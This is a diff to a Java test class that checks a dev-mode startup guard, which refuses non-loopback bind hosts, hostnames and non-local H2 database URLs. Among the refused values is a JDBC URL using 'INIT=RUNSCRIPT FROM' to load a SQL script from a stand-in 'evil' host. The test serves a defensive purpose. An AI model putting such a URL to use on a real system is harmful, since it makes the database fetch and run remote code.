@@ -43,7 +43,7 @@ class StartupChecksTest {
     var config = new TrainyardConfiguration();
     config.getAuth().setMode(AuthConfig.Mode.DEV);
     assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
-        .hasMessageContaining("binds only to loopback")
+        .hasMessageContaining("binds only to a loopback address literal")
         .hasMessageContaining("every interface");
     ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0))
         .setBindHost("0.0.0.0");
@@ -61,6 +61,62 @@ class StartupChecksTest {
   }
 
   @Test
+  void devModeRefusesAnAdminConnectorOffLoopback() {
+    var config = devOnLoopback();
+    ((HttpConnectorFactory) server(config).getAdminConnectors().get(0)).setBindHost("0.0.0.0");
+    assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
+        .hasMessageContaining("admin connector bindHost is 0.0.0.0");
+  }
+
+  @Test
+  void devModeTakesOnlyLoopbackAddressLiteralsNotNames() {
+    for (var ok : new String[] {"127.0.0.1", "127.0.0.2", "::1", "[::1]"}) {
+      var config = devOnLoopback();
+      ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0)).setBindHost(ok);
+      checks(config).refuseUnsafeDevMode();
+    }
+    for (var refused : new String[] {"localhost", "0.0.0.0", "::", "10.0.0.1", "127.evil.com"}) {
+      var config = devOnLoopback();
+      ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0))
+          .setBindHost(refused);
+      assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
+          .as(refused)
+          .hasMessageContaining("application connector bindHost is " + refused);
+    }
+    var named = devOnLoopback();
+    ((HttpConnectorFactory) server(named).getApplicationConnectors().get(0))
+        .setBindHost("localhost");
+    assertThatThrownBy(() -> checks(named).refuseUnsafeDevMode())
+        .hasMessageContaining("a name, which the resolver may map anywhere");
+  }
+
+  @Test
+  void devModeTakesOnlyALocalH2File() {
+    for (var ok :
+        new String[] {"jdbc:h2:file:/tmp/x/db;DB_CLOSE_ON_EXIT=FALSE", "jdbc:h2:./data/db"}) {
+      var config = devOnLoopback();
+      config.getDatabase().setUrl(ok);
+      checks(config).refuseUnsafeDevMode();
+    }
+    for (var refused :
+        new String[] {
+          "jdbc:h2:tcp://db.example.com/trainyard",
+          "jdbc:h2:ssl://db.example.com/trainyard",
+          "jdbc:h2:mem:trainyard",
+          "jdbc:h2:file:/tmp/x/db;AUTO_SERVER=TRUE",
+          "jdbc:h2:file:/tmp/x/db;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+          "jdbc:mysql://db/trainyard"
+        }) {
+      var config = devOnLoopback();
+      config.getDatabase().setUrl(refused);
+      assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
+          .as(refused)
+          .hasMessageContaining("auth.mode dev refuses database.url")
+          .hasMessageNotContaining("RUNSCRIPT");
+    }
+  }
+
+  @Test
   void anEmptyIssuerIsAnErrorNeverAFallBackToDev() {
     for (var issuer : new String[] {null, "", "  "}) {
       var config = oidc(issuer);
@@ -75,6 +131,16 @@ class StartupChecksTest {
     var config = oidc("https://sso.example.com/realms/training");
     assertThatThrownBy(() -> checks(config).applyDefaults())
         .hasMessageContaining("configure at least one backend");
+  }
+
+  /** Dev mode with both connectors on 127.0.0.1: safe until a test changes one thing. */
+  private TrainyardConfiguration devOnLoopback() {
+    var config = new TrainyardConfiguration();
+    config.getAuth().setMode(AuthConfig.Mode.DEV);
+    ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0))
+        .setBindHost("127.0.0.1");
+    checks(config).applyDefaults();
+    return config;
   }
 
   private StartupChecks checks(TrainyardConfiguration config) {
